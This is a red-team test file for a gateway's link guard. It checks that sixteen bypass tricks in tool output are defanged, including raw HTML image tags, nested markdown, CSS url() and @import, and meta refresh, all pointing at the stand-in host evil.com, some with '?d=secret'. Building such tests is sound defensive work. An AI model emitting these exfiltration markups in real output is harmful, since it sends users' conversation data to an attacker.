import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { httpTool, startGateway, type TestGateway } from '../helpers/app.js';
import { Upstream } from '../helpers/upstream.js';

// Red team: links and images a client would fetch or follow, shaped to slip past the links guard
// (`allowHosts: ["*.example.com"]`, defang), through a real gateway and upstream.

const LONG = 'q'.repeat(5000); // a conversation carried in the URL: longer than the guard's 4,096-character bounds
const BYPASSES: [string, string][] = [
  ['a `>` inside an earlier attribute hides the tag', '<img alt=">" src="https://evil.com/x?d=secret">'],
  ['a `<` inside a later attribute', '<img src="https://evil.com/x?d=secret" alt="<">'],
  ['an HTML attribute longer than 4,096 characters', `<img src="https://evil.com/${LONG}">`],
  ['attributes longer than 4,096 characters before src', `<img data-x="${LONG}" src="https://evil.com/x">`],
  ['a protocol-relative `\\\\host` in raw HTML (a backslash is a slash to a browser)', '<img src="\\\\evil.com">'],
  ['brackets nested two deep in the alt text', '![a[b[c]]](https://evil.com/x)'],
  ['alt text over 1,000 characters', `![${'a'.repeat(1200)}](https://evil.com/x)`],
  ['an image URL over 4,096 characters', `![x](https://evil.com/${LONG})`],
  ['parentheses nested two deep in the URL', '![x](https://evil.com/a(b(c)))'],
  ['a line break before the destination', '![x](\nhttps://evil.com/x\n)'],
  ['a reference definition with its URL on the next line', '![x][1]\n\n[1]:\n  https://evil.com/x'],
  ['a reference definition in a block quote', '![x][1]\n\n> [1]: https://evil.com/x'],
  ['a reference definition in a list item', '![x][1]\n\n- [1]: https://evil.com/x'],
  ['a CSS url() in a style attribute', '<div style="background:url(https://evil.com/x?d=1)">hi</div>'],
  ['a CSS @import', '<style>@import url("https://evil.com/a.css");</style>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0; url=https://evil.com/x">'],
];

describe('red team: the links guard', () => {
  let gw: TestGateway;
  const up = new Upstream();
  let text = '';
  beforeAll(async () => {
    await up.start();
    up.on((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain; charset=utf-8' });
      res.end(text);
    });
    gw = await startGateway({ tools: { 'l.yaml': httpTool('rt.links', `${up.url}/x`, { resultGuards: [{ links: { allowHosts: ['*.example.com'], action: 'defang' } }] }) } });
  });
  afterAll(async () => {
    await gw?.close();
    await up.close();
  });

  it.each(BYPASSES)('%s: the URL to evil.com is gone', async (_what, markup) => {
    text = `before ${markup} after`;
    const r = await gw.call('rt.links', {});
    expect(r.statusCode).toBe(200);
    const shown = (r.json() as { result: { content: { text: string }[] } }).result.content[0]?.text ?? '';
    expect(shown).not.toMatch(/(?:https?:)?(?:\/\/|\\\\)evil\.com/);
    expect(shown).toContain('evil');
    const rec = (await gw.audit()).at(-1);
    expect(rec?.findings).toEqual([expect.objectContaining({ kind: 'link', action: 'defang' })]);
  });

  it('allowed hosts and relative links stay as they were', async () => {
    text = '![logo](https://cdn.example.com/logo.png) [docs](/docs) <img alt=">" src="https://img.example.com/a.png">';
    const r = await gw.call('rt.links', {});
    expect((r.json() as { result: { content: { text: string }[] } }).result.content[0]?.text).toBe(text);
  });
});
